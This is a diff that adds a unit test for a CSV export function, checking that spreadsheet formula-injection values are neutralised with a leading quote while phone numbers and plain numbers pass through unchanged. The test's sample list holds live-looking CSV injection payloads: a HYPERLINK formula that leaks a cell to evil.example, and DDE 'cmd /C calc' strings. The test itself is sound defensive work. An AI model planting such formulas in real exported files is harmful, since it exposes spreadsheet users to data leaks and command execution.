@@ -38,6 +38,25 @@ describe('export formatting', () => {
     expect(csvCell('+14155550100')).toBe('+14155550100');
   });
 
+  it('CSV injection: a value a spreadsheet would run as a formula is neutralised with a leading quote; phones and numbers are not', () => {
+    // Traits are attacker-controlled (any write key can set them): opened in Excel or Sheets, these would run.
+    for (const attack of [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "+cmd|' /C calc'!A0",
+      '-2+3+cmd|x',
+      '\t=1+1',
+      '\r=1',
+    ]) {
+      const cell = csvCell(attack);
+      expect(cell.replace(/^"/, ''), attack).toMatch(/^'/);
+    }
+    expect(csvCell('=1+1')).toBe("'=1+1");
+    expect(csvCell('+14155550100')).toBe('+14155550100');
+    expect(csvCell('-12.5')).toBe('-12.5');
+    expect(csvCell('a=b')).toBe('a=b');
+  });
+
   it('JSON Lines: typed values, absent as null, several identifiers as an array', () => {
     const fields = parseFields(['email,user_id,traits.address.city,traits.missing,computed.rfm_group,consent.ads']);
     expect(JSON.parse(formatRow(p, fields, 'jsonl'))).toEqual({
